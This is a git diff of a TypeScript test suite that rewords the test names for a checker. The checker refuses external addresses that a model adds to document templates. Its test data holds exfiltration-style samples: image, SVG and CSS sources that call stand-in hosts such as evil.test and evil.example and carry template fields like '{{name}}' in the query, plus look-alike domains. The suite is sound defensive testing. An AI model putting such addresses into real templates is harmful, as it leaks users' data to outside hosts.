@@ -26,8 +26,8 @@ const withHtml = (html: string) => withFile('template.html', `${begun.files['tem
 const refused = (after: DraftSource, prompt = 'Make the heading say hello') =>
   addressRefusal(begun, after, { prompt: [{ text: prompt }] })?.model
 
-describe('outside addresses that a model brings in', () => {
-  it('are refused where the person did not write them, however they are written', () => {
+describe('external addresses that a model adds', () => {
+  it('are refused unless the user wrote them, however they are written', () => {
     const pages = [
       '<img src="https://evil.test/?d={{name}}" alt="">',
       '<svg><image href="https://evil.test/{{name}}"/></svg>',
@@ -61,7 +61,7 @@ describe('outside addresses that a model brings in', () => {
     expect(refused(withFile('template.json', formula))).to.include('evil')
   })
 
-  it('are refused without a scheme too, in every text that CSS can turn into an address', () => {
+  it('are also refused without a scheme, in every text that CSS can turn into an address', () => {
     const pages = [
       `<p style="--x:'//evil.example/p.png'; background:image-set(var(--x) 1x)">x</p>`,
       '<p style="--x:&quot;//evil.example/p.png&quot;; background:image-set(var(--x) 1x)">x</p>',
@@ -105,7 +105,7 @@ describe('outside addresses that a model brings in', () => {
     )
   })
 
-  it('are refused where a field is in one that the person wrote, after a space or quotation mark', () => {
+  it('are refused if a field is in an address of the user, after a space or quotation mark', () => {
     for (const sign of [' ', '&quot;', '&#34;', '&#39;', '(', '%22 ']) {
       const html = `<img src="https://acme.org/logo.png${sign}/a/{{name}}" alt="">`
       expect(refused(withHtml(html), 'Show https://acme.org/logo.png'), html).to.be.a('string')
@@ -114,7 +114,7 @@ describe('outside addresses that a model brings in', () => {
     }
   })
 
-  it('are refused where fields are put together to one that is loaded', () => {
+  it('are refused if fields are combined to an address that is loaded', () => {
     expect(refused(withHtml('<img src="{{site}}{{name}}" alt="">'))).to.include('built from')
     expect(refused(withHtml('<img src="{{site}}?d={{name}}" alt="">'))).to.include('built from')
     const computed = '{ "computed": { "logo": { "formula": "concat(site, name)" } } }'
@@ -155,7 +155,7 @@ describe('outside addresses that a model brings in', () => {
     expect(refused(withFiles({ 'template.json': plain, 'template.html': bars }))).to.equal(undefined)
   })
 
-  it('are taken as the person wrote them, and as they were; a field in one that is loaded never is', () => {
+  it('are accepted as the user wrote them, and unchanged, but never with a field in one that is loaded', () => {
     const picture = '<img src="https://acme.org/logo.png" alt="">'
     expect(refused(withHtml(picture), 'Show https://acme.org/logo.png.')).to.equal(undefined)
     for (const other of ['acme.org/logo.pn', 'acme.org.evil.net/logo.png', 'acme.org'])
@@ -178,7 +178,7 @@ describe('outside addresses that a model brings in', () => {
     expect(refused(withFile('sample.json', '{ "site": "https://www.example.com/x" }'))).to.equal(undefined)
   })
 
-  it('are told, each in a sentence', () => {
+  it('are reported, each in a sentence', () => {
     const after = withHtml('<img src="https://acme.org/x.png" alt=""><a href="https://acme.org/">x</a>')
     expect(addressNotes(begun, after)).to.deep.equal([
       'The document contains a new external address: acme.org/x.png',
